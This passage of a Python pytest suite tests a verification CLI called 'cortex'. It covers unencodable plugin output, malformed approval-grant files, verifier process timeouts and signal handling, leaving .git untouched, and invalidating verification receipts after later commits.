    """A plugin whose outcome is type-correct but holds a lone surrogate."""

    kind = "fake"
    version = "1"

    def check(self, requirement: str, context: Context) -> str | None:  # noqa: ARG002
        """Nothing to check."""
        return None

    def run(self, requirement: str, context: Context) -> Outcome:  # noqa: ARG002
        """Passes, with an unencodable summary."""
        return Outcome(status="passed", summary="ran \udcff", notes=["note \udcfe"])


def test_a_plugin_outcome_with_lone_surrogates_is_not_a_crash(
    cli: Cli, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression (bug found by this review, fixed in 327a38b): a plugin outcome with a lone
    surrogate in its summary or notes passes `_checked` and crashes the commit (internal_error,
    exit 1) instead of giving a blocked receipt"""
    builtin = registry._builtin

    def patched(kind: str) -> Verifier | None:
        return SurrogateVerifier() if kind == "fake" else builtin(kind)

    monkeypatch.setattr(registry, "_builtin", patched)
    task = ready_to_verify(cli, verify=("fake",))
    edit(repo)
    out = cli("case", "verify", task)
    assert out.code in {0, 2}, out.stdout
    assert out.envelope["ok"] is True
    assert cli("case", "audit", task).code == 0


# 6. Approval -------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["symlink", "fifo", "huge", "directory"])
def test_an_odd_grants_file_approves_nothing(
    cli: Cli, repo: Path, env: dict[str, str], tmp_path: Path, kind: str
) -> None:
    """Held: a grants file that is a symlink (to a valid grant), FIFO, 50 MB or a dir: blocked."""
    marker = tmp_path / "ran.marker"
    argv = steps("append", str(marker), "ran")
    configure_verifiers(repo, env, {"unit": argv})
    path = Path(env["XDG_CONFIG_HOME"]) / "cortex" / "command-grants.json"
    path.parent.mkdir(parents=True)
    if kind == "symlink":
        import hashlib

        real = tmp_path / "elsewhere.json"
        grant = {
            "workspace": str(repo),
            "name": "unit",
            "argvSha256": hashlib.sha256("\0".join(argv).encode()).hexdigest(),
            "grantedAt": "2026-01-01T00:00:00.000Z",
        }
        real.write_text(json.dumps({"schemaVersion": 1, "grants": [grant]}))
        path.symlink_to(real)
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "huge":
        with path.open("wb") as handle:
            handle.truncate(50 << 20)
    else:
        path.mkdir()
    task = ready_to_verify(cli)
    edit(repo)
    out = cli("case", "verify", task)
    if out.code == 2:
        assert receipts_by(out.data)["command:unit"]["status"] == "blocked"
        assert out.data["assessment"]["status"] != "verified"
    else:
        assert_refused(out, 4)
    assert not marker.exists()


# 7. Processes ------------------------------------------------------------------------------------


def test_a_verifier_that_closes_its_pipes_is_still_timed_out(
    cli: Cli, repo: Path, env: dict[str, str]
) -> None:
    """Held: closing stdout/stderr early does not escape the deadline; binary output is kept."""
    script = "printf '\\377\\376\\000bin\\n'; exec >&- 2>&-; sleep 20"
    (repo / "cortex.toml").write_text(
        f'[verifiers.unit]\nargv = ["sh", "-c", {json.dumps(script)}]\ntimeout = 1\n'
    )
    git(repo, "add", "cortex.toml", env=env)
    git(repo, "commit", "-q", "-m", "t", env=env)
    approve(env)
    task = ready_to_verify(cli)
    edit(repo)
    started = time.monotonic()
    out = cli("case", "verify", task)
    assert time.monotonic() - started < 10
    receipt = receipts_by(out.data)["command:unit"]
    assert receipt["status"] == "blocked"
    assert cli("case", "audit", task).code == 0


@pytest.mark.process
@pytest.mark.parametrize(
    "sig",
    [
        signal.SIGINT,
        signal.SIGTERM,
        pytest.param(
            signal.SIGKILL,
            marks=pytest.mark.xfail(
                strict=True,
                reason=(
                    "LIMIT (documented in verification.md §2 since 327a38b): when cortex is "
                    "SIGKILLed, PR_SET_PDEATHSIG kills the verifier itself but its own children "
                    "are orphaned and run on with no deadline"
                ),
            ),
        ),
    ],
    ids=lambda s: s.name,
)
def test_an_interrupted_verify_leaves_no_verifier_running(
    cli: Cli, repo: Path, env: dict[str, str], tmp_path: Path, sig: signal.Signals
) -> None:
    """Regression (bug found by this review, fixed in 327a38b): the verifier ran in its own
    session and only a timeout killed its group, so an interrupted verify (Ctrl-C, SIGTERM)
    left the verifier and its children running with no deadline at all.
    """
    pidfile = tmp_path / "child.pid"
    configure_verifiers(repo, env, {"unit": steps("grandchild", str(pidfile), "::", "sleep", "30")})
    approve(env)
    task = ready_to_verify(cli)
    edit(repo)
    proc = subprocess.Popen(
        [sys.executable, "-m", "cortex", "case", "verify", task, "--json"],
        cwd=repo,
        env=leased(env, [task]),  # the holder's lease token (tests/stand_ins.py)
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    child = read_pid(pidfile)
    verifier = os.getpgid(child)  # the verifier leads its own session; its child is in it
    try:
        proc.send_signal(sig)
        proc.communicate(timeout=20)
        assert wait_dead(verifier), "the verifier outlived the interrupted verify"
        assert wait_dead(child), "the verifier's child outlived the interrupted verify"
    finally:
        if proc.poll() is None:
            proc.kill()
        kill_group_of(child)
    assert verdict_of_status(cli, task) is None


def test_a_verifier_leaves_no_process_behind(
    cli: Cli, repo: Path, env: dict[str, str], tmp_path: Path
) -> None:
    """Regression (bug found by this review, fixed in 327a38b): a verifier that exits 0 leaving a
    background child in its own process group passes, and the child (not killed: only a timeout
    kills the group) keeps running after verify returned, free to touch the tree"""
    pidfile = tmp_path / "bg.pid"
    script = f"sleep 30 >/dev/null 2>&1 </dev/null & echo $! > {pidfile}"
    configure_verifiers(repo, env, {"unit": ["sh", "-c", script]})
    approve(env)
    task = ready_to_verify(cli)
    edit(repo)
    out = cli("case", "verify", task)
    child = read_pid(pidfile)
    try:
        assert out.data["assessment"]["status"] == "verified"
        assert wait_dead(child, 1.0), "the verifier's background child still runs"
    finally:
        kill_group_of(child)


# 8. .git is never written -------------------------------------------------------------------------


def git_files(git_dir: Path) -> dict[str, tuple[int, int, int, bytes]]:
    """Every regular file under a .git directory: size, mtime, inode, bytes."""
    found: dict[str, tuple[int, int, int, bytes]] = {}
    for path in sorted(git_dir.rglob("*")):
        if path.is_file() and not path.is_symlink():
            info = path.stat()
            found[str(path.relative_to(git_dir))] = (
                info.st_size,
                info.st_mtime_ns,
                info.st_ino,
                path.read_bytes(),
            )
    return found


@pytest.mark.usefixtures("unit")
def test_verify_never_writes_a_submodules_index(
    cli: Cli, repo: Path, env: dict[str, str], tmp_path: Path
) -> None:
    """Regression (bug found by this review, fixed in fe1b0d7): a writer's capture runs git status
    through the index mirror without --no-optional-locks/GIT_OPTIONAL_LOCKS=0, so git's recursion
    into a dirty submodule refreshes and rewrites .git/modules/<sub>/index"""
    upstream = make_repo(tmp_path / "upstream", env)
    for index in range(3):
        (upstream / f"f{index}.py").write_text(f"{index}\n")
    git(upstream, "add", "-A", env=env)
    git(upstream, "commit", "-q", "-m", "files", env=env)
    add_submodule(repo, upstream, "sub", env)
    task = ready_to_verify(cli, files=("app.py", "sub"))
    edit(repo)
    sub = repo / "sub"
    (sub / "f1.py").write_text("changed in the submodule\n")
    later = time.time() + 100  # every submodule file looks touched: its index is stale
    for path in sub.glob("*.py"):
        os.utime(path, (later, later))
    before = git_files(repo / ".git")
    assert cli("case", "verify", task).code == 0
    after = git_files(repo / ".git")
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    assert changed == []


# 9. Commits after verify (issue 14) --------------------------------------------------------------
#
# A receipt now stays current across a commit of exactly the verified code (its tree id is the
# commit's tree). Anything else committed, or left changed after the commit, must take it away.


def _commit_with_extra_edit(repo: Path, env: dict[str, str]) -> None:
    edit(repo, "print('fixed')\nprint('and something else')\n")
    git(repo, "commit", "-q", "-am", "fix and more", env=env)


def _commit_with_new_file(repo: Path, env: dict[str, str]) -> None:
    (repo / "extra.py").write_text("x = 1\n")
    git(repo, "add", "-A", env=env)
    git(repo, "commit", "-q", "-m", "fix and a new file", env=env)


def _commit_with_deletion(repo: Path, env: dict[str, str]) -> None:
    git(repo, "rm", "-q", "cortex.toml", env=env)
    git(repo, "commit", "-q", "-am", "fix and a deletion", env=env)


def _commit_with_chmod(repo: Path, env: dict[str, str]) -> None:
    (repo / "app.py").chmod(0o755)
    git(repo, "commit", "-q", "-am", "fix and a mode", env=env)


def _commit_part_then_edit(repo: Path, env: dict[str, str]) -> None:
    git(repo, "commit", "-q", "-am", "fix", env=env)
    edit(repo, "print('edited after the commit')\n")


def _commit_without_the_fix(repo: Path, env: dict[str, str]) -> None:
    """Commit only an unrelated new file: HEAD moves and the tree holds one more file."""
    (repo / "notes.txt").write_text("n\n")
    git(repo, "add", "notes.txt", env=env)
    git(repo, "commit", "-q", "-m", "notes", env=env)


COMMITS = {
    "an extra edit": _commit_with_extra_edit,
    "a new file": _commit_with_new_file,
    "a deletion": _commit_with_deletion,
    "a chmod": _commit_with_chmod,
    "an edit after the commit": _commit_part_then_edit,
    "another file": _commit_without_the_fix,
}


@pytest.mark.usefixtures("unit")
@pytest.mark.parametrize("how", list(COMMITS))
def test_a_commit_that_also_changes_a_file_never_keeps_proof(
    cli: Cli, repo: Path, env: dict[str, str], how: str
) -> None:
    """Held: the tree id moves with any change to what git stores, committed or not."""
    task = verified_case(cli, repo)
    COMMITS[how](repo, env)
    assert_nothing_claims_verified(cli, task)
    facts = cli("case", "status", task).data["verification"]["currency"]
    assert facts["current"] is False
